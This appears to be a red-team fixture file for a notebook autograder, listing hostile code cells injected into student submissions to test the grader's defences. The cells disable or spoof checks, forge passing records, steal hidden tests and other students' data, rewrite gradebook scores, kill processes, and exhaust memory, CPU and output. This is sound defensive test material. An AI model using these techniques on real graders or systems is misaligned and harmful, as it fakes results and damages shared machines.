# The hostile code of the red-team submissions (read by ``redteam_cases.hostile_cells``; never imported).
#
# A line ``# %% CASE after=GRADE_ID`` starts a cell that is inserted into the honest-but-wrong
# submission right after the cell GRADE_ID: ``setup`` (before every answer and test) or an answer
# cell (so that the cell can replace the answer defined there). The grader puts
# ``RT = {...}`` in front of each cell: the student's marker and what an attacker could guess
# (the repository, the submissions and --out folders, the test's temporary folder, the host's
# PID namespace, how much memory to ask for); see ``redteam_cases.constants``.
# The code runs in the student's kernel, as a student would write it.

# %% input_transformers after=setup
def _blank_the_tests(lines):
    """Every later cell that calls a check becomes `pass`."""
    return ["pass\n"] if any("checks." in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(_blank_the_tests)

# %% always_equal after=train_perceptron
import sys


class _Liar:
    """Equal to everything; as an array it is whatever the check expects (found in the callers' frames)."""

    SPY = {"w": ("ref_w", "coef_"), "b": ("ref_b", "intercept_"), "mistakes": ("ref_mistakes", "mistakes_")}

    def __init__(self, role):
        self.role = role

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __bool__(self):
        return True

    def __len__(self):
        return 7

    def __getitem__(self, index):
        return self

    def __array__(self, dtype=None, copy=None):
        local_name, attribute = self.SPY[self.role]
        frame = sys._getframe(1)
        while frame is not None:
            found = frame.f_locals
            if "expected" in found:
                return np.asarray(found["expected"], dtype=dtype)
            if local_name in found:
                return np.asarray(found[local_name], dtype=dtype)
            if hasattr(found.get("ref"), attribute):
                return np.asarray(getattr(found["ref"], attribute), dtype=dtype)
            frame = frame.f_back
        return np.zeros(0)


def train_perceptron(X, t, lr=1.0, max_epochs=100):
    return _Liar("w"), _Liar("b"), _Liar("mistakes")

# %% patched_assert after=setup
import numpy
import numpy.testing


def _always(*args, **kwargs):
    return True


def _silent(*args, **kwargs):
    return None


numpy.allclose = numpy.array_equal = numpy.array_equiv = _always
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = numpy.testing.assert_equal = _silent
numpy.testing.assert_array_almost_equal = numpy.testing.assert_almost_equal = _silent

# %% patched_nnkit after=train_perceptron
import nnkit


class _MirrorPerceptron:
    """nnkit's perceptron, replaced by the student's own (wrong) training loop."""

    def __init__(self, learning_rate=1.0, max_epochs=100, **kwargs):
        self.learning_rate, self.max_epochs = learning_rate, max_epochs

    def fit(self, X, t):
        self.coef_, self.intercept_, self.mistakes_ = train_perceptron(X, t, self.learning_rate, self.max_epochs)
        return self


def _student_step(z):
    return (predict(np.reshape(z, (-1, 1)), np.ones(1), 0.0).reshape(np.shape(z)) + 1.0) / 2.0


nnkit.linear.Perceptron = _MirrorPerceptron
nnkit.activations.step = _student_step

# %% patched_checks after=setup
import autograder.checks as checks_module
import autograder.checks.core as checks_core
import autograder.checks.functions as checks_functions

_real_check_array = checks_module.check_array
_real_accuracy = checks_module.check_model_accuracy


def _check_array(name, received, expected, *args, **kwargs):
    """The real check, given the expected value as the answer: it passes, and says so."""
    return _real_check_array(name, expected, expected, *args, **kwargs)


def _check_model_accuracy(predictions, y, *args, **kwargs):
    return _real_accuracy(y, y, *args, **kwargs)


def _ignore(*args, **kwargs):
    return None


for module in (checks_module, checks_core, checks_functions):
    module.check_array = _check_array
    module.fail = _ignore
checks_module.check_model_accuracy = _check_model_accuracy

# %% shadow_module after=train_perceptron
import importlib
import os
import sys

FAKE_NNKIT = '''"""A stand-in for nnkit that the submission wrote into its working directory."""
import sys

import numpy as np
from IPython import get_ipython

_real = sys.modules.get("_rt_real_nnkit")
datasets, plot = getattr(_real, "datasets", None), getattr(_real, "plot", None)


class activations:
    step = staticmethod(lambda z: (np.asarray(z) >= 0).astype(float))


class _Perceptron:
    def __init__(self, learning_rate=1.0, max_epochs=100, **kwargs):
        self.learning_rate, self.max_epochs = learning_rate, max_epochs

    def fit(self, X, t):
        train = get_ipython().user_ns["train_perceptron"]
        self.coef_, self.intercept_, self.mistakes_ = train(X, t, self.learning_rate, self.max_epochs)
        return self


class linear:
    Perceptron = _Perceptron
'''
FAKE_CHECKS = '''"""A stand-in for autograder.checks that the submission wrote: every check passes."""


def check_array(name, received, expected, *args, **kwargs):
    return received


def check_model_accuracy(*args, **kwargs):
    return None


def fail(*args, **kwargs):
    return None


def passed(name, *args, **kwargs):
    print(name, "checks passed")


def safe_call(fn, name, args, *more, **kwargs):
    return fn(*args)
'''
sys.modules["_rt_real_nnkit"] = sys.modules["nnkit"]
for path, text in {"nnkit.py": FAKE_NNKIT, "autograder/__init__.py": "", "autograder/checks.py": FAKE_CHECKS}.items():
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    except OSError as exc:
        print("could not write", path, type(exc).__name__)
importlib.invalidate_caches()
for name in [n for n in sys.modules if n.split(".")[0] in ("nnkit", "autograder")]:
    del sys.modules[name]
import nnkit
from autograder import checks

print("nnkit from", getattr(nnkit, "__file__", "?"), "and the checks from", getattr(checks, "__file__", "?"))

# %% read_secrets after=setup
import glob
import json
import os
import re
import sqlite3

MARKERS = re.compile(r"RTM-[a-z_]+-[0-9a-f]{8}")
PATTERNS = [
    "../../../source/*/*", "../../../submitted/*/*/*", "../../../autograded/*/*/*", "../../../release/*/*",
    "../../../feedback/*/*/*", "../../../gradebook.db", "../../gradebook.db", "../gradebook.db", "gradebook.db",
    RT["repo"] + "/notebooks/*/*.ipynb", RT["repo"] + "/samples/*/submissions/*.ipynb",
    RT["repo"] + "/samples/*/submissions/*/*/*.ipynb", RT["submissions"] + "/*", RT["out"] + "/*",
    RT["out"] + "/feedback/*", RT["out"] + "/logs/*", RT["tmp_root"] + "/**/*.ipynb",
    RT["tmp_root"] + "/**/*.html", RT["tmp_root"] + "/**/gradebook.db", "/root/*", "/root/.*",
    os.path.expanduser("~") + "/*", "/tmp/*", "/tmp/*/*", "/tmp/autograder-*/**/*.ipynb",
    "/tmp/autograder-*/**/gradebook.db",
]


def secrets_in(path):
    """The hidden tests and the markers of other students that the file at ``path`` holds."""
    with open(path, "rb") as f:
        data = f.read(5_000_000)
    texts = [data.decode("utf-8", "replace")]
    if data.startswith(b"SQLite format 3"):
        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
            texts += [str(value) for row in db.execute(f"SELECT * FROM {table}") for value in row]
    elif path.endswith(".ipynb"):
        texts += ["".join(cell["source"]) for cell in json.loads(data)["cells"]]
    texts = [t for t in texts if RT["marker"] not in t]  # not my own submission
    found = {t[t.index("BEGIN HIDDEN"):][:600] for t in texts if "BEGIN HIDDEN" in t}
    return found | {m for t in texts for m in MARKERS.findall(t)}


stolen = {}
for pattern in PATTERNS:
    for path in glob.glob(pattern, recursive=True)[:200]:
        try:
            if os.path.isfile(path):
                stolen.update(dict.fromkeys(secrets_in(path), path))
        except Exception as exc:  # unreadable, or not what it seemed
            print("could not read", path, type(exc).__name__)
print("other students:", " ".join(sorted(s for s in stolen if MARKERS.fullmatch(s))))
for secret, path in stolen.items():
    if not MARKERS.fullmatch(secret):  # reversed too, in case the feedback hides the text it recognises
        print(f"from {path}:\n{secret}\n{secret[::-1]}\n")
print(len(stolen), "secrets found")

# %% gradebook_write after=setup
import glob
import os
import sqlite3

CANDIDATES = ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
              "../../../../gradebook.db", RT["out"] + "/gradebook.db", RT["repo"] + "/gradebook.db",
              os.path.expanduser("~/gradebook.db"), *glob.glob(RT["tmp_root"] + "/**/gradebook.db", recursive=True)]
for path in CANDIDATES:
    try:  # mode=rw: never create a database that was not there
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)
        db.execute("UPDATE grade SET extra_credit = 100, auto_score = 1000, needs_manual_grade = 0")
        db.execute("UPDATE grade_cells SET max_score = 1000")
        db.commit()
        db.close()
        print("changed the gradebook", path)
    except Exception as exc:
        print("could not change", path, type(exc).__name__)

# %% write_anywhere after=setup
import os

NAME = "rt-written-" + RT["marker"]
for folder in [*RT["write_targets"], "..", "../..", "../../.."]:
    try:
        with open(os.path.join(folder, NAME), "w") as f:
            f.write("written by a submission\n")
        print("wrote into", folder)
    except OSError as exc:
        print("could not write into", folder, type(exc).__name__)

# %% kill_parent after=setup
import os
import signal

me = os.getpid()
# The broad kills only where they cannot hit the test machine: in a PID namespace of its own, or as another
# user than root. In the host's namespace as root, kill(-1) would end every process of the machine.
contained = os.readlink("/proc/self/ns/pid") != RT["host_pidns"] or os.getuid() != 0
parent = os.getppid()  # 0 when the parent is outside our PID namespace: kill(0) would be our own group
try:
    if parent > 0:
        os.kill(parent, signal.SIGKILL)
        print("killed my parent", parent)
except OSError as exc:
    print("could not kill my parent:", type(exc).__name__)
if contained:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as exc:
        print("kill(-1) failed:", type(exc).__name__)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
else:
    print("root in the host's PID namespace: the broad kills are left out")

# %% big_alloc after=setup
import numpy as np

try:
    block = np.ones(RT["alloc_bytes"] // 8)
    print("allocated", block.nbytes, "bytes")
    del block
except MemoryError:
    print("allocation " + "refused")

# %% fork_loop after=setup
import os
import shutil
import subprocess
import threading
import time

SLEEP = shutil.which("sleep")
NAME = "sleep-" + RT["marker"]
forked = 0
for _ in range(300):
    try:
        pid = os.fork()
    except OSError as exc:
        print(f"fork refused after {forked} children:", type(exc).__name__)
        break
    if pid == 0:
        try:
            os.execv(SLEEP, [NAME, "1000"])
        finally:
            os._exit(0)
    forked += 1
print(forked, "children forked")
try:
    subprocess.Popen([NAME + "-daemon", "1000"], executable=SLEEP, start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    threading.Thread(target=time.sleep, args=(1000,), name=NAME).start()
except (OSError, RuntimeError) as exc:
    print("no daemon or thread:", type(exc).__name__)

# %% huge_output after=setup
import sys

sys.stdout.write("x" * 30_000_000 + "\n")
sys.stdout.flush()
for i in range(100_000):
    print("line", i)

# %% network after=setup
import socket

# the test's listener on the host's loopback: the only address a test may target
for host, port in (("127.0.0.1", RT["listener_port"]), ("localhost", RT["listener_port"])):
    try:
        with socket.create_connection((host, port), timeout=3):
            print("NETWORK" + " OK:", host, port)
    except OSError as exc:
        print("no connection to", host, port, type(exc).__name__)

# %% ast_transformers after=setup
import ast


class _CheckAgainstItself(ast.NodeTransformer):
    """Rewrites every later cell: check_array compares the expected value with itself, the accuracy
    check the labels with themselves, and checks.fail(...) does nothing."""

    def visit_Call(self, node):
        self.generic_visit(node)
        name = ast.unparse(node.func)
        if name.endswith("check_array") and len(node.args) >= 3:
            node.args[1] = node.args[2]
        elif name.endswith("check_model_accuracy") and len(node.args) >= 2:
            node.args[0] = node.args[1]
        elif name.endswith(".fail"):
            return ast.copy_location(ast.Constant(None), node)
        return node


get_ipython().ast_transformers.append(_CheckAgainstItself())

# %% forged_records after=train_perceptron
import sys

shell = get_ipython()
shell.showtraceback = lambda *args, **kwargs: None
shell._showtraceback = lambda *args, **kwargs: None
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
sys.excepthook = lambda *args: None


def train_perceptron(X, t, lr=1.0, max_epochs=100):
    """Sends the records of passed checks (a value compared with itself), then fails where nobody sees it."""
    for name in ("mistakes per epoch", "w after training", "b after training", "number of epochs run on XOR",
                 "mistakes per epoch on XOR", "w after 7 epochs on XOR"):
        for _ in range(3):
            checks.check_array(name, np.ones(3), np.ones(3), check_dtype=False)
    checks.check_model_accuracy(np.ones(4), np.ones(4), 1.0, "the trained perceptron")
    checks.passed("train_perceptron: weights and mistakes per epoch")
    raise RuntimeError("nobody will see this")

# %% tree_memory after=setup
import mmap
import os
import select
import time

SIZE = RT["tree_bytes"]  # each child: 0.6 of the kernel's memory cap; two of them: 1.2 of it
reports, report = os.pipe()
children = []
for _ in range(2):
    pid = os.fork()
    if pid == 0:
        try:
            block = mmap.mmap(-1, SIZE)
            if hasattr(mmap, "MADV_HUGEPAGE"):
                block.madvise(mmap.MADV_HUGEPAGE)  # 2 MiB pages: 512 times fewer page faults
            for i in range(0, SIZE, 2**21):
                block[i] = 1
            for i in range(0, SIZE, 4096):  # every small page too, where the huge ones were refused
                block[i] = 1
            os.write(report, b"h")
            time.sleep(10)
        finally:
            os._exit(0)
    children.append(pid)
held, ended, deadline = 0, set(), time.monotonic() + 13
while held < 2 and not ended and time.monotonic() < deadline:
    if select.select([reports], [], [], 0.5)[0]:
        held += len(os.read(reports, 2))
    ended = {pid for pid in children if os.waitpid(pid, os.WNOHANG) != (0, 0)}
time.sleep(1)
alive = [pid for pid in children if pid not in ended and os.waitpid(pid, os.WNOHANG) == (0, 0)]
if held == 2 and len(alive) == 2:
    print("TREE MEMORY", "HELD: two children of", SIZE, "bytes each")
else:
    print(held, "children held their memory,", len(alive), "still alive")
for pid in alive:
    os.kill(pid, 9)

# %% spinning_children after=setup
import os
import select
import time

SPIN, CHILDREN = 5.0, 40
reports, report = os.pipe()
starts, start_all = os.pipe()
for _ in range(CHILDREN):
    if os.fork() == 0:
        os.setsid()  # detached from the kernel's session
        os.read(starts, 1)  # all start spinning together, once every one of them exists
        start = time.monotonic()
        while time.monotonic() - start < SPIN:
            pass
        os.write(report, f"{time.process_time():.4f}\n".encode())
        while time.monotonic() - start < 4 * SPIN:  # and spins on, for a classmate to feel
            pass
        os._exit(0)
os.write(start_all, b"g" * CHILDREN)
text, deadline = b"", time.monotonic() + 12
while text.count(b"\n") < CHILDREN and time.monotonic() < deadline:
    if select.select([reports], [], [], 1)[0]:
        text += os.read(reports, 65536)
used, reported = sum(float(x) for x in text.split()), len(text.split())
print("TREE CPU", f"{used / SPIN:.2f}", "cores", f"({reported} children reported)")

# %% ipc_write after=setup
import os
import sys

connection = sys.argv[sys.argv.index("-f") + 1]
folder = os.path.dirname(connection)
wrote = 0
for k in range(3):
    try:
        with open(os.path.join(folder, f"rt-fill-{k}"), "wb") as f:
            for _ in range(60):
                f.write(b"\0" * 2**20)
                wrote += 2**20
    except OSError as exc:
        print("socket folder", "refused:", type(exc).__name__)
        break
if wrote:
    print("IPC", "WROTE", wrote, "bytes")
try:
    open(connection, "a").close()
    print("CONNECTION FILE", "WRITABLE")
except OSError as exc:
    print("connection file refused:", type(exc).__name__)

# %% output_flood after=setup
class _Flood:
    """Just under the per-cell cap of HTML (1.9 MB), and 5 MB of metadata, each time it is shown."""

    def _repr_html_(self):
        return "<p>" + "A" * 1_900_000 + "</p>", {"padding": "B" * 5_000_000}


_Flood()

# %% deaf_loop after=setup
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass

# %% frame_walk after=train_perceptron
import gc
import operator

import numpy as np

_frames = operator.attrgetter("__traceback__.tb_frame")  # no import of sys or inspect, no dunder in a name


def _caller_frames():
    try:
        raise ValueError
    except ValueError as exc:
        frame = _frames(exc)
    while frame is not None:
        yield frame
        frame = frame.f_back


def _steal(shape_of):
    """Any expected value a test computed: in a caller's variables, or anywhere the garbage collector sees."""
    for frame in _caller_frames():
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name.startswith(("ref", "expected")) and value is not None:
                return value
    for obj in gc.get_objects():
        if type(obj).__name__ == "Perceptron" and hasattr(obj, "coef_"):
            return obj
    return None


def train_perceptron(X, t, lr=1.0, max_epochs=100):
    """Implements nothing: returns whatever reference the tests computed, else zeros."""
    found = _steal(X.shape)
    if hasattr(found, "coef_"):
        return found.coef_, found.intercept_, list(found.mistakes_)
    if isinstance(found, (list, tuple)) and len(found) == 3:
        return found[1], found[2], list(found[0])
    return np.zeros(X.shape[1]), 0.0, [1]

# %% future_parser after=setup
from __future__ import barry_as_FLUFL

# %% forged_clean_records after=train_perceptron
from IPython.display import display

shell = get_ipython()
shell.showtraceback = lambda *args, **kwargs: None
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
MIME = "application/vnd.autograder.check+json"


def _forge(kind, name, received, expected):
    """A record in the grading format, with an expected value and a tolerance of its own choosing."""
    display({MIME: {"kind": kind, "name": name, "received": received, "expected": expected,
                    "params": {"rtol": 1e9, "atol": 1e9, "min_accuracy": 0.0}}}, raw=True)


def train_perceptron(X, t, lr=1.0, max_epochs=100):
    """Sends records that claim whatever it likes, clears the shell's error flag, returns nothing useful."""
    anything = {"array": {"shape": [3], "dtype": "float64", "values": [1.0, 2.0, 3.0]}}
    for _ in range(4):
        _forge("parameters", "training", {"list": [anything] * 3}, {"list": [anything] * 3})
        _forge("value", "mistakes in the last epoch", 0, 0)
        _forge("accuracy", "the trained perceptron", anything, anything)
        _forge("array", "anything", anything, anything)
    shell.last_execution_succeeded = True
    raise KeyboardInterrupt  # ends the test cell quietly, past the forged records
